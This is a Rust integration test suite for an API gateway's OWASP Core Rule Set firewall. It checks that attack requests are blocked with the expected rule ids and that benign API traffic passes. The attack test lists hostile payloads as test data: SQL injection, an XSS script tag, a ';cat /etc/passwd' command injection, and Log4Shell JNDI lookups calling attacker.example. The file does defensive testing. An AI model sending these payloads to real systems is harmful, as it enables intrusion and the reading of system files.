//! The OWASP Core Rule Set through the real binary, with Debian's
//! modsecurity-crs (CRS 3.3.4, installed by `.ci/run`) at paranoia level 1
//! and the gateway's API defaults: SQL injection, XSS, command injection
//! and Log4Shell are refused before the backend with the CRS rule ids in
//! the audit line; every benign record of the shared corpus passes, and so
//! does a PUT with a JSON body; rules of a higher detection paranoia log
//! without blocking; a crs_setup file replaces the API defaults; and
//! `frontdesk check` lists what the front end does not support.

mod common;

use std::path::Path;
use std::time::Duration;

use serde_json::Value;

use common::{audit_lines, client, upstream, Backend, Gateway};

const CRS: &str = "/usr/share/modsecurity-crs";

fn crs_present() {
    assert!(
        Path::new(CRS).join("rules").is_dir(),
        "these tests need Debian's modsecurity-crs at {CRS} (apt-get install modsecurity-crs)"
    );
}

async fn gateway(backend: &Backend, waf_extra: &str) -> Gateway {
    crs_present();
    Gateway::start(
        "",
        &format!(
            "{}[[routes]]\nname = \"api\"\nupstream = \"app\"\n\n[waf]\ncrs = \"{CRS}\"\naudit_log = \"audit.log\"\n{waf_extra}\n",
            upstream("app", &[backend], "")
        ),
    )
    .await
}

/// The audit line of the request with this X-Request-Id (it may take a
/// moment to be written).
async fn audited(gw: &Gateway, request_id: &str) -> Option<Value> {
    for _ in 0..50 {
        if let Some(l) = audit_lines(gw)
            .into_iter()
            .find(|l| l["request_id"] == request_id)
        {
            return Some(l);
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    None
}

fn rule_ids(line: &Value) -> Vec<u64> {
    line["rules"]
        .as_array()
        .map(|r| r.iter().filter_map(|r| r["id"].as_u64()).collect())
        .unwrap_or_default()
}

/// (name, method, path and query, extra header, body, a CRS rule that must
/// be among the hits)
type Attack<'a> = (
    &'a str,
    &'a str,
    &'a str,
    Option<(&'a str, &'a str)>,
    Option<&'a str>,
    u64,
);

#[tokio::test]
async fn attacks_are_blocked_with_crs_rule_ids_in_the_audit_line() {
    let backend = Backend::start("app").await;
    let gw = gateway(&backend, "").await;
    let attacks: [Attack; 5] = [
        (
            "sqli",
            "GET",
            "/api/items?id=1%27%20OR%20%271%27%3D%271",
            None,
            None,
            942100,
        ),
        (
            "xss",
            "GET",
            "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            None,
            None,
            941100,
        ),
        (
            "rce",
            "GET",
            "/run?cmd=%3Bcat%20%2Fetc%2Fpasswd",
            None,
            None,
            932160,
        ),
        (
            "log4shell",
            "GET",
            "/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
            None,
            None,
            932130,
        ),
        (
            "log4shell-json",
            "POST",
            "/api/login",
            Some(("content-type", "application/json")),
            Some(r#"{"user": "${jndi:ldap://attacker.example/a}"}"#),
            932130,
        ),
    ];
    for (name, method, path, header, body, rule) in attacks {
        let id = format!("attack-{name}");
        let mut req = client()
            .request(method.parse().unwrap(), gw.url(path))
            .header("x-request-id", &id);
        if let Some((k, v)) = header {
            req = req.header(k, v);
        }
        if let Some(b) = body {
            req = req.body(b);
        }
        let resp = req.send().await.expect("request");
        assert_eq!(resp.status().as_u16(), 403, "{name}");
        let json: Value = resp.json().await.expect("JSON error body");
        assert!(
            json["error"].as_str().unwrap_or("").contains("949110"),
            "{name}: {json}"
        );
        let line = audited(&gw, &id)
            .await
            .unwrap_or_else(|| panic!("{name}: no audit line"));
        assert_eq!(line["action"], "blocked", "{name}: {line}");
        let ids = rule_ids(&line);
        assert!(
            ids.contains(&rule) && ids.contains(&949110),
            "{name}: {line}"
        );
        assert!(line["score"].as_u64().unwrap_or(0) >= 5, "{name}: {line}");
    }
    assert_eq!(backend.hits(), 0, "no attack reached the backend");
}

#[tokio::test]
async fn benign_api_traffic_passes_including_put_with_json() {
    let backend = Backend::start("app").await;
    let gw = gateway(&backend, "").await;
    let resp = client()
        .put(gw.url("/api/v1/users/42"))
        .header("content-type", "application/json")
        .body(r#"{"name": "Ada Lovelace", "bio": "Select the best; drop the rest.", "tags": ["math", "engines"]}"#)
        .send()
        .await
        .expect("PUT");
    assert_eq!(resp.status().as_u16(), 200, "a PUT with JSON passes");
    // Every benign record of the shared corpus (REST, GraphQL, forms,
    // PATCH/DELETE, uploads) reaches the backend.
    let corpus = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../shared/waf-corpus/benign-dev.jsonl"
    ))
    .expect("the shared corpus at ../shared/waf-corpus");
    let records: Vec<Value> = corpus
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    assert!(records.len() > 800, "{}", records.len());
    let c = client();
    let mut blocked = Vec::new();
    for chunk in records.chunks(16) {
        let sends = chunk.iter().map(|r| {
            let mut req = c.request(
                r["method"].as_str().unwrap_or("GET").parse().unwrap(),
                gw.url(r["uri"].as_str().unwrap_or("/")),
            );
            for h in r["headers"].as_array().into_iter().flatten() {
                let (k, v) = (h[0].as_str().unwrap_or(""), h[1].as_str().unwrap_or(""));
                // The client sets the length itself.
                if !k.eq_ignore_ascii_case("content-length") {
                    req = req.header(k, v);
                }
            }
            if let Some(b) = r["body"].as_str() {
                req = req.body(b.to_string());
            }
            async move {
                (
                    r["id"].clone(),
                    req.send().await.map(|r| r.status().as_u16()),
                )
            }
        });
        for (id, status) in futures::future::join_all(sends).await {
            let status = status.expect("an answer");
            if status != 200 {
                blocked.push(format!("{id}: {status}"));
            }
        }
    }
    assert!(blocked.is_empty(), "benign records refused: {blocked:?}");
}

#[tokio::test]
async fn detection_paranoia_logs_without_blocking() {
    let backend = Backend::start("app").await;
    let gw = gateway(&backend, "paranoia = 1\ndetection_paranoia = 2\n").await;
    // No User-Agent: rule 920320, paranoia level 2.
    let resp = client()
        .get(gw.url("/api/items"))
        .header("host", "shop.example")
        .header("x-request-id", "no-agent")
        .send()
        .await
        .expect("request");
    assert_eq!(resp.status().as_u16(), 200);
    let line = audited(&gw, "no-agent").await.expect("an audit line");
    assert_eq!(line["action"], "detected", "{line}");
    assert!(rule_ids(&line).contains(&920320), "{line}");
    assert_eq!(
        line["score"], 0,
        "PL2 rules do not count at paranoia 1: {line}"
    );
    assert_eq!(backend.hits(), 1);
}

#[tokio::test]
async fn a_crs_setup_file_replaces_the_api_defaults() {
    let backend = Backend::start("app").await;
    // Debian's stock setup: CRS's own method list (GET HEAD POST OPTIONS).
    let gw = gateway(
        &backend,
        "crs_setup = \"/etc/modsecurity/crs/crs-setup.conf\"\n",
    )
    .await;
    let put = client()
        .put(gw.url("/api/v1/users/42"))
        .header("content-type", "application/json")
        .header("x-request-id", "stock-put")
        .body(r#"{"name": "Ada"}"#)
        .send()
        .await
        .expect("PUT");
    assert_eq!(put.status().as_u16(), 403);
    let line = audited(&gw, "stock-put").await.expect("an audit line");
    assert!(
        rule_ids(&line).contains(&911100),
        "method not allowed: {line}"
    );
    let get = client()
        .get(gw.url("/api/v1/users/42"))
        .send()
        .await
        .expect("GET");
    assert_eq!(get.status().as_u16(), 200);
}

#[test]
fn check_lists_what_the_front_end_does_not_support() {
    crs_present();
    let dir = tempfile::tempdir().expect("tempdir");
    let rules = dir.path().join("crs/rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("REQUEST-100-CUSTOM.conf"),
        "SecRule ARGS \"@rx evil\" \"id:100100,phase:2,deny,msg:'custom'\"\n\nSecHashEngine On\n",
    )
    .unwrap();
    let conf = dir.path().join("frontdesk.toml");
    let toml = format!(
        "[upstreams.app]\ntargets = [\"127.0.0.1:9\"]\n[[routes]]\nname = \"r\"\nupstream = \"app\"\n[waf]\ncrs = \"{}\"\n",
        dir.path().join("crs").display()
    );
    std::fs::write(&conf, toml).unwrap();
    let (code, stderr) = common::check(&conf);
    assert_eq!(
        code,
        Some(0),
        "unsupported directives are reported, not fatal: {stderr}"
    );
    assert!(
        stderr.contains("REQUEST-100-CUSTOM.conf:3: unsupported directive SecHashEngine"),
        "{stderr}"
    );
    // The stock CRS: what it uses and the gateway lacks is listed too.
    let toml = format!(
        "[upstreams.app]\ntargets = [\"127.0.0.1:9\"]\n[[routes]]\nname = \"r\"\nupstream = \"app\"\n[waf]\ncrs = \"{CRS}\"\n"
    );
    std::fs::write(&conf, toml).unwrap();
    let (code, stderr) = common::check(&conf);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(
        stderr.contains("rule 910140: unsupported operator @rbl"),
        "{stderr}"
    );
    // A broken rule is an error with its file and line.
    std::fs::write(
        rules.join("REQUEST-100-CUSTOM.conf"),
        "\nSecRule ARGS \"@rx (unclosed\" \"id:100101,phase:2,deny\"\n",
    )
    .unwrap();
    let toml = format!(
        "[upstreams.app]\ntargets = [\"127.0.0.1:9\"]\n[[routes]]\nname = \"r\"\nupstream = \"app\"\n[waf]\ncrs = \"{}\"\n",
        dir.path().join("crs").display()
    );
    std::fs::write(&conf, toml).unwrap();
    let (code, stderr) = common::check(&conf);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(
        stderr.contains("waf.crs") && stderr.contains("REQUEST-100-CUSTOM.conf:2: rule 100101"),
        "{stderr}"
    );
}
